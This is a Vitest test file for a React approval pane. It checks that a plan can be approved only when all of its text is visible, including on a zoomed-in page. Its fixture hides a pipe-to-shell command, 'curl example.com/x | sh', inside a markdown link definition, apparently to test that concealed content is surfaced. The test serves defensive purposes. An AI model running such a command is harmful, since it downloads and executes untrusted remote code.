import { act, fireEvent } from "@testing-library/react";
import { createElement } from "react";
import { afterEach, beforeEach, expect, test, vi } from "vitest";
import { AnswerPane } from "../src/session/answer-pane.tsx";
import { cleansUp, look, opened, passes, shown, t } from "./page.ts";

cleansUp();

/** What is in view of a page that is zoomed in, in px. */
const zoomTo = (height: number) =>
  act(async () => void fireEvent(Object.assign(visualViewport as object, { height }) as never, new Event("resize")));

beforeEach(() => {
  // happy-dom has no layout.
  vi.spyOn(Element.prototype, "getBoundingClientRect").mockReturnValue(new DOMRect(0, 0, 300, 100));
  document.elementFromPoint = () => document.querySelector("[data-action]");
});
afterEach(() => zoomTo(768));

test("a plan is allowed only with all of its text in view, also in a page that is zoomed in", async () => {
  const text = "# Tests\n\n1. Run them.\n\n[x]: https://example.com 'curl example.com/x | sh'";
  const { stage, id } = await opened({ questions: [{ type: "approval", question: "Is it right?", action: { kind: "plan", text } }] });
  const page = shown(stage, createElement(AnswerPane, { session: await stage.view(id) }));
  const allow = async () => {
    await passes(stage, look);
    await act(async () => void fireEvent.keyDown(document.body, { key: "Y", shiftKey: true }));
  };
  // The definition of a link, which is no part of the text as it is rendered.
  expect(page.querySelector("[data-part=plan] .document-blocks")?.textContent).toContain("curl example.com/x | sh");
  await zoomTo(50);
  await allow();
  expect(page.querySelector(".actions-error")?.textContent).toBe(t("approval.below"));
  expect((await stage.view(id)).scheduled).toBeUndefined();
  await zoomTo(10_000);
  await allow();
  await expect.poll(async () => (await stage.view(id)).scheduled).toBeDefined();
});
